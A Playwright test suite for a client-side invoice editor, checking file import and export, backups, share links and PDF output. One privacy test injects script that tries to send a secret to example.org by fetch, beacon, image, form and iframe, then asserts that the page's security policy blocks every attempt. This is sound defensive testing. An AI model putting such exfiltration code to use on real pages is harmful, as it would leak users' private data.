"""Files in and out, the link, and the promise that nothing typed leaves the device."""
import json
import subprocess
import unittest
import urllib.parse
from pathlib import Path

from playwright.sync_api import expect

from studio import PICTURES, StudioTest, World

CANARY = "Zitronenfalter-7741"
SIDE = 16


class Files(StudioTest):
    @property
    def permits(self):
        """Where Studio asks whether somebody is signed in."""
        return World.address.removesuffix("/studio") + "/permits"

    def downloaded(self, page, name):
        with page.expect_download() as download:
            self.menu(page, name)
        return download.value

    def choose(self, page, name, files):
        with page.expect_file_chooser() as chooser:
            self.menu(page, name)
        chooser.value.set_files(files)

    def test_json_goes_out_and_in(self):
        page = self.visit()
        self.draft(page)
        file = self.downloaded(page, "Download as JSON")
        self.assertRegex(file.suggested_filename, r"^Invoice \d{4}-001 Aurora Coffee GmbH\.json$")
        invoice = json.loads(Path(file.path()).read_text())
        self.assertEqual(invoice["lines"][0]["price"], "1050.50")
        other = self.visit(self.profile())
        self.choose(other, "Open a file", [{"name": "a.json", "mimeType": "application/json", "buffer": json.dumps(invoice).encode()}])
        expect(self.field(other, "buyer.name")).to_have_value("Aurora Coffee GmbH")

    def test_a_file_that_is_none_is_refused_in_words(self):
        page = self.visit()
        self.choose(page, "Open a file", [{"name": "a.json", "mimeType": "application/json", "buffer": b"[1,"}])
        expect(page.locator("#told")).to_contain_text("ends too early")
        self.choose(page, "Open a file", [{"name": "a.json", "mimeType": "application/json", "buffer": b'{"seller": [], "lines": 5}'}])
        dialog = page.get_by_role("dialog", name="Not everything was taken over")
        expect(dialog.get_by_role("listitem")).to_have_count(2)
        expect(dialog).to_contain_text("seller: ")
        dialog.get_by_role("button", name="Close").click()
        self.draft(page)

    def test_lines_go_out_and_in_as_csv(self):
        page = self.visit()
        self.draft(page)
        self.assertIn("Brand identity", Path(self.downloaded(page, "lines as CSV").path()).read_text())
        self.choose(page, "Add lines from CSV", [{"name": "l.csv", "mimeType": "text/csv", "buffer": "name;quantity;price;vat\n\"Paper; A4\";10;2,50;19\n".encode()}])
        expect(self.field(page, "lines[1].name")).to_have_value("Paper; A4")
        expect(page.locator('[data-net="1"]')).to_have_text("€25.00")

    def test_lines_from_csv_leave_what_is_there(self):
        page = self.visit()
        self.fill(page, {"lines[0].price": "50", "lines[0].quantity": "2"})
        self.choose(page, "Add lines from CSV", [{"name": "l.csv", "mimeType": "text/csv", "buffer": b"name,price\nPaper,3\n"}])
        expect(self.field(page, "lines[1].name")).to_have_value("Paper")
        expect(self.field(page, "lines[0].price")).to_have_value("50")

    def test_taxes_survive_a_spreadsheet(self):
        page = self.visit()
        self.draft(page)
        taxes = [[{"category": category, "rate": "0"}] for category in ["Z", "E", "AE"]] + [
            [{"category": "O"}], [{"rate": "7"}], [{"name": "GST", "rate": "5"}, {"name": "PST", "rate": "7"}]]
        lines = [{"name": f"Line {place}", "quantity": "1", "unit": "C62", "price": "10", "taxes": one} for place, one in enumerate(taxes)]
        self.choose(page, "Open a file", [{"name": "a.json", "mimeType": "application/json", "buffer": json.dumps({"number": "5", "lines": lines}).encode()}])
        expect(self.field(page, "lines[5].name")).to_have_value("Line 5")
        csv = Path(self.downloaded(page, "lines as CSV").path()).read_bytes()
        other = self.visit(self.profile())
        self.choose(other, "Add lines from CSV", [{"name": "l.csv", "mimeType": "text/csv", "buffer": csv}])
        expect(self.field(other, "lines[5].name")).to_have_value("Line 5")
        self.assertEqual(json.loads(Path(self.downloaded(other, "Download as JSON").path()).read_text())["lines"], lines)

    def test_lines_of_a_spreadsheet_keep_their_letters(self):
        page = self.visit()
        for place, encoding in enumerate(["cp1252", "utf-16", "utf-8-sig"]):
            self.choose(page, "Add lines from CSV", [{"name": "l.csv", "mimeType": "text/csv", "buffer": f"name;price\nBüro {place} – 5 €;2,50\n".encode(encoding)}])
            expect(page.locator("#told")).to_have_text("One line was added.")
            expect(self.field(page, f"lines[{place}].name")).to_have_value(f"Büro {place} – 5 €")

    def test_of_several_files_the_good_ones_are_opened(self):
        page = self.visit()
        good = json.dumps({"number": "77", "buyer": {"name": "From a file"}}).encode()
        self.choose(page, "Open a file", [{"name": "bad.json", "mimeType": "application/json", "buffer": b"[1,"}, {"name": "good.json", "mimeType": "application/json", "buffer": good}])
        expect(page.locator("#told")).to_contain_text("bad.json: ")
        expect(self.field(page, "buyer.name")).to_have_value("From a file")

    def test_a_backup_brings_everything_to_another_browser(self):
        page = self.visit()
        self.draft(page)
        self.menu(page, "Back up everything")
        page.get_by_label("Passphrase").fill("correct horse")
        page.get_by_label("Once more").fill("correct horse")
        with page.expect_download() as download:
            page.get_by_role("button", name="Download the backup").click()
        contents = Path(download.value.path()).read_bytes()
        self.assertNotIn(b"Aurora", contents)
        other = self.visit(self.profile())
        self.choose(other, "Open a file", [{"name": "s.fhstudio", "mimeType": "application/octet-stream", "buffer": contents}])
        dialog = other.get_by_role("dialog", name="Open a backup")
        dialog.get_by_label("Passphrase").fill("wrong")
        dialog.get_by_role("button", name="Open", exact=True).click()
        expect(dialog.get_by_role("alert")).to_contain_text("not the one of this backup")
        dialog.get_by_label("Passphrase").fill("correct horse")
        dialog.get_by_role("button", name="Open", exact=True).click()
        self.documents(other)
        expect(other.locator(".document", has_text="Aurora Coffee GmbH")).to_have_count(1)

    def test_a_link_carries_the_document_in_its_fragment(self):
        page = self.visit()
        self.draft(page, **{"buyer.name": CANARY})
        self.menu(page, "Share by link")
        link = page.get_by_label("Link", exact=True).input_value()
        self.assertTrue(link.startswith(World.address + "#shared="))
        self.assertNotIn("?", link)
        other = self.visit(self.profile(), fragment=link.removeprefix(World.address))
        expect(self.field(other, "buyer.name")).to_have_value(CANARY)
        self.assertNotIn("shared", other.url)
        self.silent()

    def test_nothing_that_is_typed_leaves_the_device(self):
        page = self.visit()
        self.draft(page, **{"buyer.name": CANARY, "seller.name": CANARY, "lines[0].name": CANARY, "payments[0].account": CANARY})
        with page.expect_download():
            page.locator("#download").click()
        self.silent()
        for method, address, _ in self.requests:
            if not address.startswith("blob:"):
                self.assertEqual(method, "GET")
                self.assertTrue(address.startswith(World.address) or address == self.permits, address)
        answered = []
        self.context.on("response", lambda response: answered.append(response.url))
        # What a script that went wrong would try; the page's own policy refuses each way.
        blocked = page.evaluate("""async (secret) => {
            const tries = []
            document.addEventListener('securitypolicyviolation', (event) => tries.push(event.effectiveDirective))
            await fetch('/sign-in?' + secret).catch(() => {})
            await fetch('https://example.org/' + secret).catch(() => {})
            navigator.sendBeacon('/' + secret)
            new Image().src = '/' + secret
            const form = document.createElement('form')
            form.action = '/' + secret
            form.target = 'elsewhere'
            document.body.append(form)
            form.submit()
            const frame = document.createElement('iframe')
            frame.src = 'https://example.org/' + secret
            document.body.append(frame)
            await new Promise((resolve) => setTimeout(resolve, 500))
            return tries
        }""", CANARY)
        self.assertEqual(sorted(set(blocked)), ["connect-src", "form-action", "frame-src", "img-src"])
        self.complaints.clear()
        self.assertEqual(answered, [])

    def silent(self):
        forms = {CANARY, urllib.parse.quote(CANARY)}
        for _, address, body in self.requests:
            if not address.split("#")[0].startswith("blob:"):
                self.assertFalse(any(form in address.split("#")[0] or form in (body or "") for form in forms), address)

    # The PDF

    def pdf(self, page, name):
        with page.expect_download() as download:
            page.locator("#download").click()
        path = PICTURES / name
        download.value.save_as(path)
        return path, download.value.suggested_filename

    def text(self, path):
        return subprocess.run(["pdftotext", "-layout", path, "-"], capture_output=True, text=True, check=True).stdout

    def test_the_pdf_is_made_here_with_the_e_invoice_inside(self):
        page = self.visit()
        self.draft(page)
        path, name = self.pdf(page, "studio.pdf")
        self.assertRegex(name, r"^Invoice \d{4}-001 Aurora Coffee GmbH\.pdf$")
        self.assertEqual(subprocess.run(["qpdf", "--check", path], capture_output=True).returncode, 0)
        text = self.text(path)
        self.assertIn("Brand identity", text)
        self.assertIn("2,500.19", text)
        listed = subprocess.run(["pdfdetach", "-list", path], capture_output=True, text=True, check=True).stdout
        self.assertIn("factur-x.xml", listed)

    def test_a_document_in_another_font(self):
        page = self.visit()
        self.draft(page, **{"look.font": "serif", "buyer.name": "בית הקפה"})
        path, _ = self.pdf(page, "studio-serif.pdf")
        fonts = subprocess.run(["pdffonts", path], capture_output=True, text=True, check=True).stdout
        self.assertIn("+NotoSerif-Regular", fonts)
        self.assertIn("+NotoSerifHebrew-", fonts)
        self.assertNotIn("NotoSans", fonts)

    def test_an_e_invoice_inside_a_pdf_is_opened_again(self):
        page = self.visit()
        self.draft(page)
        path, _ = self.pdf(page, "studio-again.pdf")
        other = self.visit(self.profile())
        self.choose(other, "Open a file", path)
        expect(self.field(other, "buyer.name")).to_have_value("Aurora Coffee GmbH")
        expect(self.field(other, "lines[0].price")).to_have_value("1050.50")
        expect(other.locator(".sums .grand dd")).to_have_text("€2,500.19")

    def test_the_page_beside_the_form_is_the_page_of_the_pdf(self):
        page = self.visit(self.profile({"width": 1440, "height": 1400}))
        self.draft(page)
        before = self.ink(page)
        self.field(page, "lines[0].name").fill("Brand identity and a much longer name of what was made")
        self.until(page, "(before) => document.querySelector('canvas.page').toDataURL().length !== before", before)
        path, _ = self.pdf(page, "studio-page.pdf")
        # Both at the same size, their ink added up in squares: only the place of each word is left.
        shown = page.evaluate("""(side) => {
            const sheet = document.querySelector('canvas.page')
            const { data } = sheet.getContext('2d').getImageData(0, 0, sheet.width, sheet.height)
            const across = Math.floor(sheet.width / side)
            const ink = new Array(across * Math.floor(sheet.height / side)).fill(0)
            for (let y = 0; y < Math.floor(sheet.height / side) * side; y++)
                for (let x = 0; x < across * side; x++) ink[Math.floor(y / side) * across + Math.floor(x / side)] += 255 - data[(y * sheet.width + x) * 4 + 1]
            return { width: sheet.width, height: sheet.height, ink }
        }""", SIDE)
        printed = self.printed(path, shown["width"], shown["height"])
        self.assertEqual(len(printed), len(shown["ink"]))
        self.assertGreater(sum(printed), 1_000_000)
        difference = sum(abs(one - other) for one, other in zip(printed, shown["ink"]))
        self.assertLess(difference / sum(printed), 0.2)

    def printed(self, path, width, height):
        """The ink of the PDF's first page (its green channel) in squares."""
        picture = subprocess.run(["pdftoppm", "-singlefile", "-scale-to-x", str(width), "-scale-to-y", str(height), path], capture_output=True, check=True).stdout
        pixels = picture[-width * height * 3:][1::3]
        across, down = width // SIDE, height // SIDE
        ink = [0] * (across * down)
        for y in range(down * SIDE):
            row = pixels[y * width:(y + 1) * width]
            for x in range(across):
                ink[y // SIDE * across + x] += 255 * SIDE - sum(row[x * SIDE:(x + 1) * SIDE])
        return ink

    def ink(self, page):
        return page.evaluate("document.querySelector('canvas.page').toDataURL().length")

    def test_an_arabic_invoice(self):
        page = self.visit()
        self.draft(page, **{"buyer.name": "شركة النور", "look.language": "ar"})
        path, _ = self.pdf(page, "studio-arabic.pdf")
        self.assertIn("النور", self.text(path))
        page.screenshot(path=PICTURES / "studio-arabic.png")


if __name__ == "__main__":
    unittest.main()
